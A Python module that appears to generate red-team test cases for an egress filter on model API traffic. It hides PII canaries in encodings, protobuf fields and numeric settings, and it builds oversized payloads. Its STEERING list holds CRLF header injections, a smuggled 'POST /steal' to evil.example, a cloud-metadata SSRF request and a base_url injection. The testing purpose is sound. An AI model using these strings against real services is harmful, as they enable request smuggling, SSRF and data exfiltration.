"""Canaries in every encoding and place; more in the bytes than the contract knows; numbers; what steers requests."""

from __future__ import annotations

import base64
import gzip
import json
from collections.abc import Callable, Iterator
from random import Random

from evasion_parts.families import FAMILIES, Family
from redteam_parts.canaries import KINDS, Canary, canary, words
from redteam_parts.permits import extra, inside, varint
from redteam_parts.places import PLACES, plain, put, said
from redteam_parts.way import Attempt, Way
from ringfence.v1 import egress_pb2, types_pb2

PLAIN = Family("plain", lambda text, _rng: text)
MORE = (
    PLAIN,
    Family(
        "gzip, base64", lambda text, _rng: base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode(), whole=True
    ),
    Family("JSON string", lambda text, _rng: json.dumps(text)),
    Family("capitals", lambda text, _rng: text.upper()),
)
BASE = {"NHS": "PHONE", "NPI": "ACCOUNT", "DOB": "DATE", "PRIVATE_KEY": "SECRET", "TOKEN": "SECRET", "PASSPORT": "MRN"}
"""The kind whose encodings fit a kind that the public list of evasions has no seeds of."""


def encodings(kind: str) -> list[Family]:
    """What can be done to a canary of `kind`."""
    like = BASE.get(kind, kind)
    return [*MORE, *(family for family in FAMILIES if family.types is None or like in family.types)]


def written(held: Canary, family: Family, rng: Random) -> str:
    """The sentence with the canary in a family's way."""
    return family.disguise(held.text(), rng) if family.whole else held.text(family.disguise(held.value, rng))


def encoded(rng: Random, count: int, scanned: Callable[[str], bool]) -> Iterator[Way]:
    """Canaries that are found plainly, in every encoding and place in turn."""
    places = list(PLACES)
    made = index = 0
    while made < count:
        kind = KINDS[index % len(KINDS)]
        families = encodings(kind)
        family = families[(index // len(KINDS)) % len(families)]
        place = places[(index // 3) % len(places)]
        index += 1
        held = canary(kind, rng)
        if not scanned(held.text()):
            continue
        text = written(held, family, rng)
        if any(0xD800 <= ord(char) < 0xE000 for char in text):
            continue
        made += 1
        yield Way(
            f"encoded, in {place}",
            f"{kind}, {family.name}, {index}",
            (held.value,),
            (Attempt(put(place, text, rng)),),
            written=text,
        )


Smuggle = Callable[[bytes, bytes], bytes]
"""A payload, and what to hide in it, to the bytes that are handed over."""


def _full(rng: Random) -> bytes:
    """A payload that has every field that a message can stand in."""
    payload = plain(rng)
    payload.messages[0].tool_calls.add(id="c1", name="f", arguments_json="{}")
    payload.messages.add(role=types_pb2.ROLE_USER).parts.add(text="Go on.")
    payload.tools.add(name="f", parameters_json_schema="{}")
    payload.tool_choice.name = "f"
    payload.response_format.json_schema = "{}"
    payload.sampling.tokens_max = 100
    payload.sampling.logit_bias[3] = 1.0
    return payload.SerializeToString()


def _appended(*numbers: int) -> Smuggle:
    """More at the end of the message that stands under these field numbers."""

    def smuggle(data: bytes, hidden: bytes) -> bytes:
        if not numbers:
            return data + hidden
        return inside(data, numbers[0], lambda body: _appended(*numbers[1:])(body, hidden))

    return smuggle


def _text(number: int) -> Smuggle:
    """A part with another content before its own: the last one counts."""

    def smuggle(data: bytes, hidden: bytes) -> bytes:
        other = varint(number << 3 | 2) + varint(len(hidden)) + hidden
        return inside(data, 1, lambda body: inside(body, 2, lambda part: other + part))

    return smuggle


def _always(more: bytes, *numbers: int) -> Smuggle:
    """The same bytes every time, at the end of the message under these field numbers."""
    return lambda data, _hidden: _appended(*numbers)(data, more)


SMUGGLES: tuple[tuple[str, Smuggle], ...] = (
    ("at the end", _appended()),
    ("at the beginning", lambda data, hidden: hidden + data),
    ("in a message", _appended(1)),
    ("in a part", _appended(1, 2)),
    ("in a call", _appended(1, 4)),
    ("in a tool", _appended(2)),
    ("in the choice of a tool", _appended(3)),
    ("in the answer's form", _appended(4)),
    ("in the sampling", _appended(5)),
    ("in a map's entry", _appended(5, 11)),
    ("a map's entry twice", _always(varint(11 << 3 | 2) + b"\x02\x08\x03", 5)),
    ("JSON before the text", _text(2)),
    ("a text before the text", _text(1)),
    ("a known field of another kind", _always(varint(1 << 3) + varint(5))),
    ("a longer varint", _always(varint(9 << 3) + varint(100, spare=4), 5)),
    ("a longer length", _always(varint(6 << 3 | 2) + varint(0, spare=2))),
    ("a group", lambda data, hidden: data + varint(121 << 3 | 3) + hidden + varint(121 << 3 | 4)),
    ("32 bits", lambda data, hidden: data + varint(121 << 3 | 5) + hidden[-4:]),
    ("64 bits", lambda data, hidden: data + varint(121 << 3 | 1) + hidden[-8:]),
    (
        "text that is no UTF-8",
        lambda data, _hidden: inside(data, 1, lambda one: inside(one, 2, lambda _: b"\n\x02\xc3(")),
    ),
)
"""Name to what hides something where the contract has no place for it."""


def smuggled(rng: Random, count: int) -> Iterator[Way]:
    """Canaries in fields that nobody knows, at every depth, in bytes longer than they need be, and in fields twice."""
    for index in range(count):
        held = words(rng)
        name, smuggle = SMUGGLES[index % len(SMUGGLES)]
        is_text = "before the text" in name
        said = held.value.encode()
        hidden = said if is_text else extra(said, rng.choice((121, 1000, 19_000, 2**29 - 1)))
        attempt = Attempt(smuggle(_full(rng), hidden))
        yield Way("more than the contract knows", f"{name} {index}", (held.value,), (attempt,))


Say = Callable[[egress_pb2.EgressPayload, str, Random], object]
"""Says digits as numbers."""


def _logit_groups(payload: egress_pb2.EgressPayload, figures: str, _rng: Random) -> None:
    for at in range(0, len(figures), 3):
        payload.sampling.logit_bias[int(f"{at}{figures[at : at + 3]}")] = 1.0


def _logit_values(payload: egress_pb2.EgressPayload, figures: str, _rng: Random) -> None:
    for at, figure in enumerate(figures):
        payload.sampling.logit_bias[at] = float(figure)


def _two_and_nonsense(payload: egress_pb2.EgressPayload, figures: str, rng: Random) -> None:
    payload.sampling.temperature, payload.sampling.top_p = int(figures[:5]) / 10_000, int(figures[5:9]) / 10_000
    payload.sampling.presence_penalty = rng.choice((float("nan"), float("inf"), -float("inf"), 1e30))


def _temperature(payload: egress_pb2.EgressPayload, figures: str, rng: Random) -> None:
    payload.sampling.temperature = int(figures[:9]) / 10 ** rng.randrange(9)


def _in_document(payload: egress_pb2.EgressPayload, figures: str, rng: Random) -> None:
    key = rng.choice(("ssn", "card", "phone", "npi", "account"))
    payload.messages[0].parts.add(json=f'{{"{key}":{figures.lstrip("0")}}}')


NUMBERS: dict[str, Say] = {
    "a seed": lambda payload, figures, _rng: setattr(payload.sampling, "seed", int(figures)),
    "nine digits as a seed": lambda payload, figures, _rng: setattr(payload.sampling, "seed", int(figures[:9])),
    "tokens": _logit_groups,
    "biases": _logit_values,
    "a bound on tokens": lambda payload, figures, _rng: setattr(payload.sampling, "tokens_max", int(figures[:9])),
    "a temperature": _temperature,
    "several, and none": _two_and_nonsense,
    "a penalty": lambda payload, figures, _rng: setattr(payload.sampling, "frequency_penalty", float(figures[:9])),
    "dimensions": lambda payload, figures, _rng: setattr(payload, "embedding_dimensions", int(figures[:9])),
    "a number of a document": _in_document,
}
"""Name to where digits can stand as a number."""


def numbered(rng: Random, count: int) -> Iterator[Way]:
    """Digits of a canary as numbers: seeds, token ids, biases, temperatures, bounds, numbers of a document."""
    names = list(NUMBERS)
    for index in range(count):
        held = canary(("SSN", "PAN", "NPI", "ACCOUNT", "PHONE", "NHS")[index % 6], rng)
        name = names[index // 6 % len(names)]
        payload = plain(rng)
        NUMBERS[name](payload, "".join(char for char in held.value if char.isdigit()), rng)
        yield Way("numbers", f"{name} {index}", (held.value,), (Attempt(payload.SerializeToString()),))


STEERING = (
    "\r\nHost: evil.example\r\n",
    "\r\n\r\nPOST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 0\r\n\r\n",
    "\n\nGET http://169.254.169.254/latest/meta-data/ HTTP/1.0\n\n",
    "0\r\n\r\nGET /admin HTTP/1.1\r\nX: ",
    "https://evil.example/v1/chat/completions",
    "../../../v1/files",
    "//evil.example@localhost/",
    "evil.example:443",
    "x\x00Host: evil.example",
    "%0d%0aTransfer-Encoding:%20chunked",
    '","model":"evil","x":"',
    '"}],"base_url":"https://evil.example","stream":false,"y":[{"z":"',
    "Transfer-Encoding: chunked",
    "\u560d\u560aHost: evil.example",
    "\u2028Host: evil.example\u2029",
)
"""Texts that would steer a request, if ever one became part of a head, a path or an object's keys."""


def steering(rng: Random, count: int) -> Iterator[Way]:
    """What steers, in every place and in the permit's names; nothing secret: heads and paths are what is judged."""
    places = list(PLACES)
    for index in range(count):
        text = STEERING[index % len(STEERING)]
        if index % 3 == 0:
            field = rng.choice(
                ("provider", "model", "department", "request_id", "caller_pseudonym", "decision_reason", "key_id")
            )
            yield Way(
                "steering", f"{field} {index}", (), (Attempt(plain(rng).SerializeToString(), {field: f"cloud{text}"}),)
            )
        else:
            place = places[index % len(places)]
            yield Way("steering", f"{place} {index}", (), (Attempt(put(place, text, rng)),))


Change = Callable[[egress_pb2.EgressPayload], object]
"""Puts something into a payload."""


def _documents(document: str) -> dict[str, Change]:
    """One document in each place for one."""
    return {
        "part": lambda one: one.messages[0].parts.add(json=document),
        "text": lambda one: one.messages[0].parts.add(text=document),
        "schema": lambda one: one.tools.add(name="f", parameters_json_schema=document),
        "answer": lambda one: setattr(one.response_format, "json_schema", document),
    }


IMPOSSIBLE: dict[str, Change] = {
    "a long text": lambda one: said(one, "why? " * 20_000),
    "many messages": lambda one: [said(one, "why?") for _ in range(2_000)],
    "many stops": lambda one: one.sampling.stop.extend(["x"] * 2_000),
    "many biases": lambda one: one.sampling.logit_bias.update(dict.fromkeys(range(2_000), 1.0)),
    "a long number": lambda one: one.messages[0].parts.add(json="1" * 100_000),
    "a number with a great exponent": lambda one: one.messages[0].parts.add(json="1e999999"),
    "no number": lambda one: one.tools.add(name="f", parameters_json_schema='{"a":NaN}'),
    "an infinite one": lambda one: setattr(one.response_format, "json_schema", '{"a":-Infinity}'),
    "half a character": lambda one: one.tools.add(name="f", parameters_json_schema='{"a":"\\ud800"}'),
    "half a character in an argument": lambda one: one.messages[0].tool_calls.add(
        id="1", name="f", arguments_json='"\\udc00"'
    ),
    "more than a message holds": lambda one: said(one, "x" * 17_000_000),
    "nothing": lambda one: one.Clear(),
}
"""Name to what is too much, or cannot be."""


def oversized(rng: Random) -> Iterator[Way]:
    """Much of everything, and deep; nothing secret: that the agent neither fails nor sends what it cannot read."""
    for depth in (60, 100, 500, 900, 990, 2_000, 5_000):
        for opening, closing in (("[", "]"), ('{"a":', "}")):
            for name, change in _documents(f'{opening * depth}"x"{closing * depth}').items():
                yield Way("deep and huge", f"{name} {opening} {depth}", (), (Attempt(_with(change, rng)),))
    for name, change in IMPOSSIBLE.items():
        yield Way("deep and huge", name, (), (Attempt(_with(change, rng)),))


def _with(change: Change, rng: Random) -> bytes:
    payload = plain(rng)
    change(payload)
    return payload.SerializeToString()
